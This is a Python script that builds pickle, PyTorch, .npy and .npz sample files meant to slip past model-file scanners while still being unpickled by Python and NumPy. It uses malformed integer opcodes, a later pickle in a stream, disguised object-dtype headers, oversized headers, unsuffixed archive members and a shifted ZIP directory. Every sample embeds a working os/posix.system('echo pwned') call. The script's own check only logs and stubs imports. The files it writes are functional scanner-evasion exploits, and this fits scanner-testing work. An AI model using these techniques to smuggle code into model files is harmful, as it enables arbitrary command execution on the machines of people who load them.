"""Files Python's own loaders unpickle but a scanner may wave through: integer arguments Python reads more loosely
than a decimal parser, an import in a later pickle of an old torch.save stream that fails afterwards, NumPy headers
that name the object dtype without the letters '|O' or are longer than 1 MiB, .npz members NumPy reads by a name
without '.npy', and an .npz whose central directory is found relative to its end record (Python's zipfile) rather
than where the end record says.

    pickle_bypasses.py make DIR    # writes DIR/<sample>; prints {"<sample>": {"imports": [...], "error": ...}}

What each sample imports is what Python imports loading it (pickle._Unpickler; numpy.load with allow_pickle=True
for .npy and .npz, NumPy's own header and ZIP parsing). Every import is logged and stubbed: nothing real runs.
"""

import io
import json
import pathlib
import pickle
import struct
import sys
import zipfile

import numpy
import numpy.lib._format_impl as numpy_format


class Stub:
    def __new__(cls, *args, **kwargs):
        return object.__new__(cls)

    def __init__(self, *args, **kwargs):
        pass

    def __call__(self, *args, **kwargs):
        return Stub()

    def __setstate__(self, state):
        pass


class LoggingUnpickler(pickle._Unpickler):
    def __init__(self, file, log):
        super().__init__(file, encoding="utf-8")
        self.log = log

    def find_class(self, module, name):
        self.log.append(f"{module}.{name}")
        return Stub

    def persistent_load(self, pid):
        return Stub()


def raw_imports(data, several=False):
    log, error, stream = [], None, io.BytesIO(data)
    while True:
        start = stream.tell()
        try:
            LoggingUnpickler(stream, log).load()
        except Exception as failure:  # noqa: BLE001 - any failure ends the load, as in Python
            error = f"{type(failure).__name__}: {failure}" if start == 0 or not several else None
            break
        if not several or stream.tell() >= len(data):
            break
    return {"imports": sorted(set(log)), "error": error}


def numpy_imports(data):
    """numpy.load(allow_pickle=True) of `data`, its pickle.load swapped for the logging unpickler."""
    log, error, original = [], None, numpy_format.pickle.load
    numpy_format.pickle.load = lambda file, **kwargs: LoggingUnpickler(file, log).load()
    try:
        loaded = numpy.load(io.BytesIO(data), allow_pickle=True)
        for key in getattr(loaded, "files", []):
            loaded[key]
    except Exception as failure:  # noqa: BLE001
        error = f"{type(failure).__name__}: {failure}"
    finally:
        numpy_format.pickle.load = original
    return {"imports": sorted(set(log)), "error": error}


def npy(payload, descr, padding=0, version=1):
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode() + b" " * padding
    prefix = 10 if version == 1 else 12
    header += b" " * (63 - (len(header) + prefix) % 64) + b"\n"
    size = struct.pack("<H", len(header)) if version == 1 else struct.pack("<I", len(header))
    return b"\x93NUMPY" + bytes([version, 0]) + size + header + payload


def zip_bytes(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in entries:
            archive.writestr(zipfile.ZipInfo(name), data)
    return buffer.getvalue()


def directory_offset(data):
    return struct.unpack("<I", data[-6:-2])[0]


def shifted_npz(evil_npy, benign_npy):
    """A decoy ZIP (benign member, its directory where the real one's end record points) before the real ZIP, whose
    offsets count from its own start: Python's zipfile finds the real directory just before the end record."""
    real = zip_bytes([("evil.npy", evil_npy)])
    decoy = zip_bytes([("good.npy", benign_npy)])
    real_directory, decoy_directory = directory_offset(real), directory_offset(decoy)
    assert decoy_directory <= real_directory
    entry = decoy[decoy_directory:-22]
    prefix = decoy[:decoy_directory] + b"\0" * (real_directory - decoy_directory) + entry
    return prefix + real


def samples():
    call = b"cos\nsystem\n(S'echo pwned'\ntR."
    evil = b"\x80\x02cposix\nsystem\nq\x00X\x0a\x00\x00\x00echo pwnedq\x01\x85q\x02Rq\x03."
    benign = b"\x93NUMPY\x01\x00v\x00{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }" + b" " * 58
    benign = benign[:-1] + b"\n" + struct.pack("<2f", 1, 2)
    return {
        # INT's argument is read with int(text, 0): hexadecimal and underscores are integers.
        "int-hexadecimal.pkl": (b"I0x10\n0" + call, False),
        # PUT's argument is read with int(text): a carriage return (a CRLF file) and underscores are fine.
        "put-crlf.pkl": (b"Np0\r\n0" + call, False),
        "put-underscore.pkl": (b"Np1_0\n0" + call, False),
        # Old torch.save streams: the second pickle runs os.system, then fails (STACK_GLOBAL of two None).
        "stream-later-import.pt": (pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2) + call[:-1] + b"0NN\x93\xff", True),
        # NumPy headers naming the object dtype otherwise, or longer than 1 MiB (allow_pickle lifts the limit).
        "descr-word.npy": (npy(evil, "'object'"), None),
        "descr-escaped.npy": (npy(evil, "'|\\x4f'"), None),
        "descr-octal-field.npy": (npy(evil, "[('a', '\\117')]"), None),
        "long-header.npy": (npy(evil, "'|O'", padding=(1 << 20) + 100, version=2), None),
        # .npz members NumPy reads by names without ".npy".
        "unsuffixed.npz": (zip_bytes([("evil", npy(evil, "'|O'"))]), None),
        "uppercase.npz": (zip_bytes([("evil.NPY", npy(evil, "'|O'"))]), None),
        # Python's zipfile reads the directory just before the end record and shifts every offset by the prefix.
        "shifted.npz": (shifted_npz(npy(evil + b" " * 64, "'|O'"), benign), None),
    }


def make(folder):
    folder = pathlib.Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    report = {}
    for name, (data, several) in samples().items():
        (folder / name).write_bytes(data)
        report[name] = numpy_imports(data) if several is None else raw_imports(data, several)
    print(json.dumps(report, indent=1))


if __name__ == "__main__":
    make(sys.argv[2]) if sys.argv[1] == "make" else sys.exit(f"unknown command {sys.argv[1]}")
